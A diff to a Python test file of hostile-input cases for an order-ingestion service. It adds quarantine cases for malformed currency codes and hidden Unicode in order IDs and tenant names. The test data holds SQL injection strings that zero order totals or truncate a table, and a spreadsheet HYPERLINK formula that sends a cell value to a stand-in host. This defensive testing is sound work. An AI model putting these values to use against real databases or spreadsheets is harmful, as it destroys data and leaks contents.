@@ -28,7 +28,7 @@ SQL = {
     "email": "x@y.z'; UPDATE cdp.fct_orders SET total_value = 0; --",
     "userProfileId": "? %s $1 :name %(x)s",
     "salesChannel": "1; TRUNCATE cdp.sync_runs",
-    "currencyCode": "BRL'||(SELECT version())||'",
+    "currencyCode": "BRL",  # a currency code has ISO 4217's form: SQL there is quarantined (below)
 }
 UNICODE = {
     "firstName": "Zoë 🛒 ñandú",
@@ -36,7 +36,7 @@ UNICODE = {
     "email": "ünïcødé@例え.jp",
     "userProfileId": "e\u0301\u200b\ufeff",
     "salesChannel": "١",
-    "currencyCode": "€",
+    "currencyCode": "EUR",
 }
 CONTROL = "A\u0001B\u0007C\u001b[31mD\u007f"
 
@@ -83,6 +83,15 @@ def _texts(values: dict[str, str]) -> Make:
         store = dict(doc.get("storePreferencesData") or {})
         store["currencyCode"] = values["currencyCode"]
         doc["storePreferencesData"] = store
+        return dump(doc)
+
+    return make
+
+
+def _currency(code: str) -> Make:
+    def make(doc: Doc) -> bytes:
+        doc = copy.deepcopy(doc)
+        doc["storePreferencesData"] = {**(doc.get("storePreferencesData") or {}), "currencyCode": code}
         return dump(doc)
 
     return make
@@ -226,6 +235,14 @@ CASES: tuple[Case, ...] = (
     Case("non-UTF-8 bytes", "a Latin-1 name", QUARANTINE, _latin1),
     Case("duplicate keys", "orderId and value twice", EITHER, _duplicate_keys),
     Case("SQL fragments", "in every text field", LAND, _texts(SQL), texts=SQL),
+    Case("currency codes not in ISO 4217 form", "SQL", QUARANTINE, _currency("BRL'||(SELECT version())||'")),
+    Case("currency codes not in ISO 4217 form", "a spreadsheet formula", QUARANTINE,
+         _currency('=HYPERLINK("http://x.example/?"&A1,"refund")')),
+    Case("currency codes not in ISO 4217 form", "a symbol", QUARANTINE, _currency("€")),
+    Case("invisible or reordering characters in orderId", "a right-to-left override", QUARANTINE,
+         _with(orderId="BAD-rtl\u202e10-dap"), http=False, keeps_id=False),
+    Case("invisible or reordering characters in orderId", "a zero-width space", QUARANTINE,
+         _with(orderId="BAD-zw\u200bid"), http=False, keeps_id=False),
     Case("unicode text", "emoji, RTL, combining marks", LAND, _texts(UNICODE), texts=UNICODE),
     Case("deep nesting", "50,000 nested arrays", EITHER, _nested),
     Case("byte-order mark", "a UTF-8 BOM before the body", EITHER, _bom),
@@ -236,7 +253,8 @@ CASES: tuple[Case, ...] = (
          http=False, keeps_id=False),
 )  # fmt: skip
 
-# Tenant names: accepted (and then stored and usable verbatim) or refused with a clear message.
+# Tenant names: accepted (and then stored and usable verbatim) or refused with a clear message. The
+# rule (lowercase letters, digits, - and _) refuses all but the last.
 TENANT_NAMES = (
     'O\'Brien "shop"',
     "tienda ñandú 🛒",
@@ -244,6 +262,8 @@ TENANT_NAMES = (
     "名前のショップ",
     "semi;colon\ttab",
     "%s ? $1",
+    "a\u202eevil",
+    "store_2-b",
 )
 
 
